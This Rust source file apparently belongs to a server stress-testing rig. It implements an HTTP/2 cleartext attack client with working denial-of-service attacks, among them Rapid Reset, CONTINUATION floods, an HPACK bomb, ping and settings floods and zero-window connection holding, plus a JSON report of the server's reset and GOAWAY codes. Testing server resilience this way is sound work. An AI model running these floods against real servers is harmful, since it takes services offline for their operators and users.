//! A client that abuses HTTP/2 without TLS, on one connection after another, as fast as the server lets it.

use super::http2::frame::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
    RST_STREAM, SETTINGS, WINDOW_UPDATE,
};
use super::http2::header;
use crate::failure::{Context, Failure, Result};
use crate::rig::confine::pinned;
use clap::ValueEnum;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

/// How often the abuse is repeated in a piece that is sent.
const REPETITIONS: u32 = 64;
/// The time to read in, between two pieces, and after the last one.
const PATIENCE: Duration = Duration::from_millis(20);
/// The headers of a section that is too long.
const LONG_HEADERS: u32 = 100;
const CONNECT_TIME_MAX: Duration = Duration::from_secs(1);
/// Connections that are held open at a time, where that is the abuse.
const HELD_MAX: usize = 50;
/// Streams of each of them.
const HELD_STREAMS: u32 = 100;
/// The code of the static table for `:path` with a value that enters the dynamic table (RFC 7541, 6.2.1).
const INDEXED_NEW_NAME: u8 = 0x40;
/// The newest field of the dynamic table.
const NEWEST: u8 = 0x80 | 62;

/// The flags of a request without a body in one frame.
const WHOLE: u8 = END_HEADERS | END_STREAM;
/// The code of a stream that the client does not need any more (RFC 9113, 7).
const CANCEL: u32 = 8;
/// The files that are requested.
const SMALL: &str = "/hot/4096.bin";
const LARGE: &str = "/hot/1000000.bin";

/// What the client does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// Resets each request at once.
    RapidReset,
    /// One header section without an end.
    Continuation,
    /// A header section without an end, of frames without content.
    EmptyContinuation,
    /// Settings, all of which have to be acknowledged.
    Settings,
    /// Pings, all of which have to be answered.
    Ping,
    /// A request body of frames without content.
    EmptyData,
    /// A field of 4 KB that one byte repeats.
    HpackBomb,
    /// Header sections of 100 KB.
    LongHeaders,
    /// More requests without an end than a connection may have.
    Streams,
    /// The window is opened byte by byte.
    WindowUpdates,
    /// Requests for a large file with a window of no bytes, on connections that stay open.
    ZeroWindow,
}

/// A server, an attack and its duration.
#[derive(Clone, Debug, clap::Args)]
pub struct Attacker {
    /// The address of the server.
    #[arg(long)]
    pub address: SocketAddr,
    /// What it does.
    #[arg(long, value_enum)]
    pub attack: Attack,
    /// Seconds.
    #[arg(long, default_value_t = 5.0)]
    pub seconds: f64,
}

/// How the server has answered.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct AttackReport {
    /// Connections.
    pub connections: u64,
    /// Frames that were sent.
    pub frames: u64,
    /// Those that the server ended, by the code of its GOAWAY; 0 for none.
    pub ended: BTreeMap<u32, u64>,
    /// Streams that the server reset, by code.
    pub resets: BTreeMap<u32, u64>,
}

/// A connection to the server that is attacked.
struct Connection {
    socket: TcpStream,
    /// The start of a frame of the server.
    partial: Vec<u8>,
    /// The next stream.
    next: u32,
    /// The code of the last GOAWAY; 0 without one.
    code: u32,
    /// The server has ended it, which was counted.
    has_ended: bool,
}

impl Attacker {
    /// Runs in this process and prints a report as JSON on standard output.
    ///
    /// # Errors
    /// The server refuses a connection.
    pub fn run(&self) -> Result<()> {
        let end = Instant::now() + Duration::from_secs_f64(self.seconds);
        let mut report = AttackReport::default();
        let mut held = Vec::new();
        while Instant::now() < end {
            if held.len() == HELD_MAX {
                std::thread::sleep(PATIENCE);
                held.retain_mut(|connection: &mut Connection| !connection.has_ended(&mut report));
                continue;
            }
            let mut connection = Connection::connect(self.address)?;
            report.connections += 1;
            if self.attack == Attack::ZeroWindow {
                connection.send(&zero_windows(), HELD_STREAMS, &mut report);
                held.push(connection);
            } else {
                self.exhaust(&mut connection, end, &mut report);
            }
        }
        let json = serde_json::to_string(&report).context(|| "report".into())?;
        println!("{json}");
        Ok(())
    }

    /// Attacks until the server ends the connection.
    fn exhaust(&self, connection: &mut Connection, end: Instant, report: &mut AttackReport) {
        let mut bytes = self.first(connection);
        while Instant::now() < end {
            let frames = self.piece(connection, &mut bytes);
            let is_sent = connection.send(&bytes, frames, report);
            bytes.clear();
            if connection.has_ended(report) || !is_sent {
                return;
            }
        }
    }

    /// What a connection begins with.
    fn first(&self, connection: &mut Connection) -> Vec<u8> {
        let mut bytes = Vec::new();
        match self.attack {
            // Its responses have to be on their way when it resets them, so the windows stay as small as they are.
            Attack::RapidReset => frame::preface_with(&mut bytes, &[]),
            // A larger one would be full after a few updates, which is another fault.
            Attack::WindowUpdates => frame::preface_with(&mut bytes, &[]),
            _ => frame::preface(&mut bytes),
        }
        let stream = connection.next;
        match self.attack {
            Attack::Continuation | Attack::EmptyContinuation => {
                frame::write(&mut bytes, HEADERS, END_STREAM, stream, &get("/"));
            }
            Attack::EmptyData => {
                frame::write(&mut bytes, HEADERS, END_HEADERS, stream, &post());
            }
            Attack::HpackBomb => {
                let mut section = get(SMALL);
                section.push(INDEXED_NEW_NAME);
                section.extend_from_slice(b"\x01a\x7f\xa1\x1e");
                section.extend_from_slice(&[b'x'; 4000]);
                frame::write(&mut bytes, HEADERS, WHOLE, stream, &section);
                connection.next += 2;
            }
            _ => (),
        }
        bytes
    }

    /// Adds the next piece to `bytes`, and returns the number of its frames.
    fn piece(&self, connection: &mut Connection, bytes: &mut Vec<u8>) -> u32 {
        for _ in 0..REPETITIONS {
            let stream = connection.next;
            match self.attack {
                Attack::RapidReset => {
                    frame::write(bytes, HEADERS, WHOLE, stream, &get(LARGE));
                    frame::write(bytes, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    connection.next += 2;
                }
                Attack::Continuation => {
                    frame::write(bytes, CONTINUATION, 0, stream, &long_field());
                }
                Attack::EmptyContinuation => frame::write(bytes, CONTINUATION, 0, stream, &[]),
                Attack::Settings => frame::write(bytes, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
                Attack::Ping => frame::write(bytes, PING, 0, 0, &[0; 8]),
                Attack::EmptyData => frame::write(bytes, DATA, 0, stream, &[]),
                Attack::HpackBomb => {
                    let section = [get(SMALL), vec![NEWEST; 15_000]].concat();
                    frame::write(bytes, HEADERS, WHOLE, stream, &section);
                    connection.next += 2;
                }
                Attack::LongHeaders => long_headers(bytes, connection),
                Attack::Streams => {
                    frame::write(bytes, HEADERS, END_HEADERS, stream, &post());
                    connection.next += 2;
                }
                Attack::WindowUpdates => frame::write(bytes, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
                Attack::ZeroWindow => (),
            }
        }
        REPETITIONS * self.frames_per_repetition()
    }

    fn frames_per_repetition(&self) -> u32 {
        match self.attack {
            Attack::RapidReset => 2,
            Attack::LongHeaders => 1 + LONG_HEADERS,
            _ => 1,
        }
    }

    /// Starts it as a process, pinned to `cpu` if given.
    ///
    /// # Errors
    /// The process cannot be started.
    pub fn start(&self, cpu: Option<usize>) -> Result<RunningAttacker> {
        let attack = self.attack.to_possible_value();
        let attack = attack.ok_or_else(|| Failure::new("an attack without a name"))?;
        let arguments = [
            "attack".to_owned(),
            format!("--address={}", self.address),
            format!("--attack={}", attack.get_name()),
            format!("--seconds={}", self.seconds),
        ];
        let child = pinned(cpu, &arguments)?
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn();
        Ok(RunningAttacker(
            child.context(|| "start the attacker".into())?,
        ))
    }
}

/// A running attacker, which ends by itself.
pub struct RunningAttacker(Child);

impl RunningAttacker {
    /// Waits for its report.
    ///
    /// # Errors
    /// The process failed: its message is on standard error.
    pub fn report(self) -> Result<AttackReport> {
        let output = self.0.wait_with_output();
        let output = output.context(|| "wait for the attacker".into())?;
        serde_json::from_slice(&output.stdout).context(|| "the attacker failed".into())
    }
}

/// The header section of a request without a body.
fn get(path: &str) -> Vec<u8> {
    header::section("GET", "http", "a.test", path)
}

/// The header section of a request with a body.
fn post() -> Vec<u8> {
    header::section("POST", "http", "a.test", "/")
}

/// A header of 1000 bytes.
fn long_field() -> Vec<u8> {
    let mut field = Vec::new();
    header::field(&mut field, "a", &"x".repeat(1000));
    field
}

/// A request with many headers of 1000 bytes.
fn long_headers(bytes: &mut Vec<u8>, connection: &mut Connection) {
    frame::write(bytes, HEADERS, END_STREAM, connection.next, &get(SMALL));
    for number in 1..=LONG_HEADERS {
        let flags = if number == LONG_HEADERS {
            END_HEADERS
        } else {
            0
        };
        frame::write(bytes, CONTINUATION, flags, connection.next, &long_field());
    }
    connection.next += 2;
}

/// Requests of which no byte of a body may be answered.
fn zero_windows() -> Vec<u8> {
    let mut bytes = Vec::new();
    frame::preface_with(&mut bytes, &[(INITIAL_WINDOW_SIZE, 0)]);
    for number in 0..HELD_STREAMS {
        frame::write(&mut bytes, HEADERS, WHOLE, number * 2 + 1, &get(LARGE));
    }
    bytes
}

impl Connection {
    fn connect(address: SocketAddr) -> Result<Self> {
        let socket = TcpStream::connect_timeout(&address, CONNECT_TIME_MAX)
            .context(|| format!("connect to {address}"))?;
        socket.set_nonblocking(true).context(|| "socket".into())?;
        Ok(Self {
            socket,
            partial: Vec::new(),
            next: 1,
            code: 0,
            has_ended: false,
        })
    }

    /// Sends `bytes`, and reads meanwhile. False when the server takes no more, because it has ended the connection or
    /// waits for this client.
    fn send(&mut self, mut bytes: &[u8], frames: u32, report: &mut AttackReport) -> bool {
        let mut since = Instant::now();
        while !bytes.is_empty() {
            match self.socket.write(bytes) {
                Ok(sent) => {
                    bytes = &bytes[sent..];
                    since = Instant::now();
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {
                    if self.has_ended(report) || since.elapsed() > PATIENCE * 100 {
                        return false;
                    }
                    std::thread::yield_now();
                }
                Err(_) => return false,
            }
        }
        report.frames += u64::from(frames);
        true
    }

    /// Reads what is there, and returns whether the server has ended the connection, which is counted.
    fn has_ended(&mut self, report: &mut AttackReport) -> bool {
        if self.has_ended {
            return true;
        }
        let mut bytes = [0; 64 * 1024];
        loop {
            match self.socket.read(&mut bytes) {
                Ok(0) => break,
                Ok(read) => self.take(&bytes[..read], report),
                Err(error) if error.kind() == ErrorKind::WouldBlock => return false,
                Err(_) => break,
            }
        }
        self.has_ended = true;
        *report.ended.entry(self.code).or_default() += 1;
        true
    }

    /// Takes frames apart, of which only the codes matter.
    fn take(&mut self, bytes: &[u8], report: &mut AttackReport) {
        self.partial.extend_from_slice(bytes);
        let mut rest = &self.partial[..];
        while let Some((kind, payload, next)) = frame::split_frame(rest) {
            rest = next;
            match kind {
                GOAWAY => self.code = frame::u32_at(payload, 4),
                RST_STREAM => {
                    let code = frame::u32_at(payload, 0);
                    *report.resets.entry(code).or_default() += 1;
                }
                _ => (),
            }
        }
        let taken = self.partial.len() - rest.len();
        self.partial.drain(..taken);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;
    use std::thread;

    /// A server that resets a stream, and then ends the connection.
    #[test]
    fn codes_of_the_server_are_counted() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        thread::spawn(move || {
            let mut answer = Vec::new();
            frame::write(&mut answer, RST_STREAM, 0, 1, &[0, 0, 0, 7]);
            frame::write(&mut answer, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
            for mut socket in listener.incoming().flatten() {
                socket.read_exact(&mut [0; 24]).unwrap();
                socket.write_all(&answer).unwrap();
            }
        });
        let mut connection = Connection::connect(address).unwrap();
        let mut report = AttackReport::default();
        let attacker = Attacker {
            address,
            attack: Attack::Ping,
            seconds: 0.0,
        };
        let end = Instant::now() + Duration::from_secs(10);
        attacker.exhaust(&mut connection, end, &mut report);
        assert_eq!(report.ended, [(11, 1)].into());
        assert_eq!(report.resets, [(7, 1)].into());
    }
}
